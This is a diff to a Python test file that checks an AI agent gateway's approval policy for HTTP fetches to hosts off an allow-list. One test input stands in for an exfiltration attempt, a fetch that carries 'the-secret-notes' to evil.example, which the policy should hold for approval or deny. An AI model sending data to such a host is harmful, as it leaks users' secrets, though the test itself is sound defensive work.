@@ -49,6 +49,24 @@ def test_unmatched_calls_follow_side_effects(ws):
     assert "side effects" in write.reason
 
 
+def test_http_fetch_to_a_host_off_the_allow_list_needs_approval(ws):
+    from gateway.config import AgentConfig
+    from gateway.tools import default_registry
+
+    fetch = default_registry(AgentConfig(http_allow_hosts=["*.wikipedia.org", "api.github.com"])).get("http_fetch")
+    policy = ApprovalPolicy([], ws)
+    allowed = decide(policy, fetch, {"url": "https://en.wikipedia.org/wiki/Fence"})
+    listed = decide(policy, fetch, {"url": "https://API.github.com/repos"})
+    leaking = decide(policy, fetch, {"url": "https://evil.example/?q=the-secret-notes"})
+    assert (allowed.action, listed.action) == ("allow", "allow")
+    assert leaking.action == "require" and "evil.example is not on agent.http_allow_hosts" in leaking.reason
+    assert decide(policy, FETCH, {"url": "https://en.wikipedia.org/"}).action == "require"  # empty list: all ask
+    cron = decide(policy, fetch, {"url": "https://evil.example/"}, source="cron", interactive=False)
+    assert cron.action == "auto_deny"
+    trusting = ApprovalPolicy([{"tool": "http_fetch", "action": "allow"}], ws)
+    assert decide(trusting, fetch, {"url": "https://evil.example/"}).action == "allow"  # a rule decides first
+
+
 def test_tool_name_glob(ws):
     policy = ApprovalPolicy([{"tool": "scratch*", "action": "deny"}, {"tool": "wri?e_file", "action": "allow"}], ws)
     assert decide(policy, builtin("scratchpad_get")).action == "deny"
@@ -114,7 +132,8 @@ def test_regex_and_plain_globs_on_named_arguments(ws):
     assert decide(policy, SHELL, {"command": "ls -la"}).action == "allow"
     assert decide(policy, SHELL, {"command": "make test"}).action == "require"
     assert decide(policy, FETCH, {"url": "https://internal.corp/x"}).action == "deny"
-    assert decide(policy, FETCH, {"url": "https://example.com/"}).action == "allow"
+    # Unmatched by the rules: a host off agent.http_allow_hosts (empty here) needs approval.
+    assert decide(policy, FETCH, {"url": "https://example.com/"}).action == "require"
 
 
 def test_source_condition_single_and_list(ws):
